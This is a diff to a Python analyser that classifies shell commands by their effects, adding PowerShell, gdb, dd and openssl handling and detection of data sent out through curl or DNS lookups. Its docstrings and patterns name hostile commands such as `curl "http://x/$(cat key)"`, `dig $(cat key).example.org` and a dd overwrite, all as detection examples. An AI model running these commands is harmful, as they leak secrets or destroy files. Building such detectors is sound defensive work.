@@ -15,6 +15,24 @@ from shell.effects.state import State
 
 Args = list[Arg]
 _ASSIGNMENT = re.compile(r"([A-Za-z_]\w*)=")
+_POWERSHELL_READS = frozenset(
+    [
+        "get",
+        "select",
+        "where",
+        "sort",
+        "measure",
+        "import",
+        "test",
+        "group",
+        "write",
+        "convertto",
+        "convertfrom",
+        "out",
+        "foreach",
+        "compare",
+    ]
+)
 _STDIN = {"/dev/stdin", "/proc/self/fd/0", "/dev/fd/0", "-"}
 # `eval "$(…)"` of programs that print settings for the shell that asks.
 _HOOKS = re.compile(
@@ -25,6 +43,7 @@ _GIT_SETTING = re.compile(
     r"(alias\.|core\.(hookspath|pager|editor|sshcommand|fsmonitor|askpass|gitproxy)|.*\.(command|cmd|helper|program|textconv|process)|include|credential|url\.|http\.proxy|remote\..*\.url|diff\.external|sequence\.editor|protocol)",
     re.I,
 )
+_RESOLVERS = {"ping", "ping6", "dig", "host", "nslookup", "whois"}
 _FOUND = {"-exec", "-execdir", "-ok", "-okdir", "-x", "-X", "--exec", "--exec-batch"}
 _FILTERS = frozenset(
     [
@@ -105,12 +124,16 @@ def _values(args: Args) -> list[str | None]:
 
 
 def _code(state: State, known: Entry, args: Args, command: Command) -> None:
-    has_code = False
-    for option, language in known.code.items():
-        for text in _texts(known, option, args):
-            has_code = True
-            _run_text(state, known.name, language, text, command)
-    if has_code:
+    texts = [
+        (language, text)
+        for option, language in known.code.items()
+        for text in _texts(known, option, args)
+    ]
+    for language, text in texts:
+        inner = state.inner()
+        inner.positional = _positional(args, text) if language == "bash" else None
+        _run_text(inner, known.name, language, text, command)
+    if texts or "-m" in [arg.start[:2] for arg in args[1:] if "module" in known.more]:
         return
     plain = [arg for arg in _plain(known, args) if not arg.start.startswith("+")]
     language = known.code.get("input", "")
@@ -118,6 +141,13 @@ def _code(state: State, known: Entry, args: Args, command: Command) -> None:
         _run_input(state, known.name, language, command)
     elif plain and "script" in known.more:
         _script_file(state, known.name, language, plain, command)
+
+
+def _positional(args: Args, text: str | None) -> list[str] | None:
+    """`sh -c TEXT NAME A B`: A and B are $1 and $2."""
+    at = next((n for n, arg in enumerate(args) if arg.text == text), len(args))
+    values = [arg.text for arg in args[at + 2 :]]
+    return None if None in values or not values else [value or "" for value in values]
 
 
 def _reads_input(args: Args) -> bool:
@@ -167,18 +197,19 @@ def _is_glued(option: str, text: str) -> bool:
 def _run_text(state: State, name: str, language: str, text: str | None, command: Command) -> None:
     if inputs.is_fetched(command):
         state.add("install", name, "runs what comes from the network", is_local=False)
-    if text is None:
-        is_hook = language == "bash" and _is_hook(command)
-        if not is_hook:
-            state.add("unknown", name, "runs a text that is only known when it runs")
-    elif language == "bash" or language == "program":
-        RUNNERS.script(state.inner(), text)
-    elif language == "python":
-        _python(state, text)
-    elif language == "vim":
-        _vim(state, text)
-    else:
-        _other(state, name, text)
+    if text is not None:
+        _LANGUAGES.get(language, _other)(state, name, text)
+    elif language != "bash" or not _is_hook(command):
+        state.add("unknown", name, "runs a text that is only known when it runs")
+
+
+def _bash(state: State, name: str, text: str) -> None:
+    RUNNERS.script(state.inner(), text.removeprefix("exec=").removeprefix("-c "))
+
+
+def _makefile(state: State, name: str, text: str) -> None:
+    if text in _STDIN or text.startswith("/dev/fd"):
+        state.add("unknown", name, "runs rules that are only known when it runs")
 
 
 def _is_hook(command: Command) -> bool:
@@ -187,14 +218,31 @@ def _is_hook(command: Command) -> bool:
     return bool(lines) and all(_HOOKS.match(line) for line in lines)
 
 
-def _python(state: State, code: str) -> None:
+def _python(state: State, name: str, code: str) -> None:
     from shell.python import effects_of
 
     inner = state.inner()
     state.effects += effects_of(code, inner.cwd, lambda text: RUNNERS.script(inner, text))
 
 
-def _vim(state: State, text: str) -> None:
+def _powershell(state: State, name: str, text: str) -> None:
+    """Commands of PowerShell are verbs with a noun: those that only get and show pass."""
+    verbs = {verb.lower() for verb in re.findall(r"\b([A-Za-z]+)-[A-Z]\w+", text)}
+    is_plain = (
+        bool(verbs) and verbs <= _POWERSHELL_READS and not re.search(r"[>&]|::|\.\w+\(", text)
+    )
+    if not is_plain and "-whatif" not in text.lower():
+        state.add("unknown", name, "runs a script of PowerShell")
+
+
+def _gdb(state: State, name: str, text: str) -> None:
+    found = re.match(r"\s*(?:shell|!|make|pipe|python|source|call|compile)\b\s*(.*)", text)
+    if found:
+        RUNNERS.script(state.inner(), found[1])
+        state.add("unknown", "gdb", "runs a command")
+
+
+def _vim(state: State, name: str, text: str) -> None:
     found = re.match(r"\s*:?(?:[%\d,$]*!|terminal |te |!)(.*)", text)
     if found:
         RUNNERS.script(state.inner(), found[1])
@@ -294,7 +342,7 @@ def _given(state: State, known: Entry, args: Args, inner: Args, command: Command
     """`xargs rm`, `xargs -I{} mv {} x`, `parallel rm`: with what is read, as far as it is known."""
     text = inputs.input_of(state, command)
     read = [Arg(word, word) for word in (text or "").split()] if text and len(text) < 2000 else []
-    given = read or [Arg(None)]
+    given = read or [Arg(None, _listed_in(state, command))]
     mark = next(
         (args[at + 1].start for at, arg in enumerate(args[:-1]) if arg.text in ("-I", "--replace")),
         "{}",
@@ -313,6 +361,19 @@ def _given(state: State, known: Entry, args: Args, inner: Args, command: Command
         RUNNERS.words(
             state, [*(inner or [Arg("echo", "echo")]), *given], Command(words=command.words)
         )
+
+
+def _listed_in(state: State, command: Command) -> str:
+    """The start of the names that `find FOLDER` or `ls FOLDER/*` hand on; "" where it is not known."""
+    source = command.source
+    args = state.expander().words(source.words) if source is not None else []
+    name = args[0].text if args else ""
+    roots = _roots(args) if name in ("find", "fd") else []
+    if name == "ls":
+        named = [arg.start for arg in args[1:] if arg.is_pattern and "/" in arg.start]
+        roots = [Arg(each.rpartition("/")[0]) for each in named]
+    is_one = len(roots) == 1 and bool(roots[0].text) and roots[0].text != "."
+    return f"{roots[0].text}/found/" if is_one else ""
 
 
 def _filled(arg: Arg, mark: str, given: Arg) -> Arg:
@@ -430,6 +491,9 @@ def _git(state: State, known: Entry, args: Args, command: Command) -> None:
         if value in ("-c", "--config-env") and _GIT_SETTING.match(key):
             _git_program(state, text)
     plain = [value or "" for value in operands(known, _values(args))]
+    if plain[:2] == ["bisect", "run"]:
+        at = next(n for n, arg in enumerate(args) if arg.text == "run")
+        RUNNERS.words(state, args[at + 1 :] or [Arg("true", "true")], Command())
     if (
         plain[:1] == ["config"]
         and len(plain) > 2
@@ -528,12 +592,54 @@ def _methods(state: State, known: Entry, args: Args, command: Command) -> None:
 
 def _fetches(state: State, known: Entry, args: Args, command: Command) -> None:
     """`curl "http://x/$(cat key)"`, `dig $(cat key).example.org`: what a command prints is sent."""
-    if any(arg.has_output or arg.stream for arg in args[1:]):
+    asked = known.listed("fetches")
+    if asked != ["all"] and not set(asked) & {arg.text for arg in args[1:]}:
+        return
+    has_substitution = known.name in _RESOLVERS and _substitutes(command)
+    if has_substitution or any(arg.has_output or arg.stream for arg in args[1:]):
         state.add("send", known.name, "what a command prints", is_local=False)
     for option in (each for each in known.listed("proxies") if each in [arg.start for arg in args]):
         value = next(iter(_texts(known, option, args)), None)
         if option != "-e" or "proxy" in (value or "proxy"):
             state.add("send", known.name, f"{option}: what is asked goes there", is_local=False)
+
+
+def _substitutes(command: Command) -> bool:
+    parts = [part for word in command.words[1:] for part in word.parts]
+    return any(part.source == "$(" for part in parts)
+
+
+def _dd(state: State, known: Entry, args: Args, command: Command) -> None:
+    """`dd if=/dev/zero of=photo.jpg`: nothing in the place of what a file holds; an image is made that way."""
+    given = dict(arg.start.partition("=")[::2] for arg in args[1:])
+    is_blank = re.fullmatch(r"/dev/(zero|null|u?random)", given.get("if", ""))
+    if is_blank and not re.search(
+        r"/dev/null|test|tmp|temp|dummy|swap|\.(img|iso|raw|bin|dat)$", given.get("of", "/dev/null")
+    ):
+        state.add("delete", "dd", "overwrites a file")
+    if any(arg.text is None and arg.start.startswith("of=") for arg in args[1:]):
+        state.add("system", "dd", "writes to a place that is only known when it runs")
+
+
+def _openssl(state: State, known: Entry, args: Args, command: Command) -> None:
+    """`openssl s_client` sends what it reads; looking at a certificate sends nothing."""
+    is_client = "s_client" in [arg.text for arg in args[1:2]]
+    has_nothing = any(each.word.literal == "/dev/null" for each in command.redirects)
+    if (
+        is_client
+        and not has_nothing
+        and (inputs.input_of(state, command) or "?").strip() not in ("", "Q")
+    ):
+        state.add("send", known.name, "s_client", is_local=False)
+
+
+def _variables(state: State, known: Entry, args: Args, command: Command) -> None:
+    """`make SHELL=…`: a variable that says what is started."""
+    if any(
+        arg.start.partition("=")[0] in known.listed("variables") and "=" in arg.start
+        for arg in args[1:]
+    ):
+        state.add("unknown", known.name, "a variable that says what is started")
 
 
 def _program(state: State, known: Entry, args: Args, command: Command) -> None:
@@ -548,7 +654,8 @@ def _program(state: State, known: Entry, args: Args, command: Command) -> None:
         for each in re.findall(r">\s*\"([^\"]+)\"", text):
             state.file("writes", known.name, Arg(each, each))
         if re.search(
-            r"system\s*\(\s*[^\"\s]|\|\s*getline|@load|system\s*\(\s*\"[^\"]*\"\s*[^)\s]", text
+            r"\|\s*\"(ba|da|z)?sh\b|system\s*\(\s*[^\"\s]|\|\s*getline|@load|system\s*\(\s*\"[^\"]*\"\s*[^)\s]",
+            text,
         ):
             state.add("unknown", known.name, "starts a command that is only known when it runs")
 
@@ -592,6 +699,15 @@ def _nested_program(state: State, known: Entry, args: Args, command: Command) ->
         RUNNERS.words(state, [Arg(name, name), *args[args.index(plain[0]) + 1 :]], command)
 
 
+_LANGUAGES: dict[str, Callable[[State, str, str], None]] = {
+    "bash": _bash,
+    "program": _bash,
+    "python": _python,
+    "vim": _vim,
+    "gdb": _gdb,
+    "powershell": _powershell,
+    "makefile": _makefile,
+}
 _BY_KEY: dict[str, Callable[[State, Entry, Args, Command], Any]] = {
     "code": _code,
     "runs": _runs,
@@ -606,10 +722,13 @@ _BY_KEY: dict[str, Callable[[State, Entry, Args, Command], Any]] = {
     "program": _program,
     "script": _nested_program,
     "module": _module,
+    "variables": _variables,
 }
 _BY_NAME: dict[str, Callable[[State, Entry, Args, Command], Any]] = {
     **dict.fromkeys(("find", "gfind", "fd", "fdfind"), _find),
     **dict.fromkeys(("sed", "gsed"), _sed),
     "git": _git,
+    "dd": _dd,
+    "openssl": _openssl,
     "npx": _npx,
 }
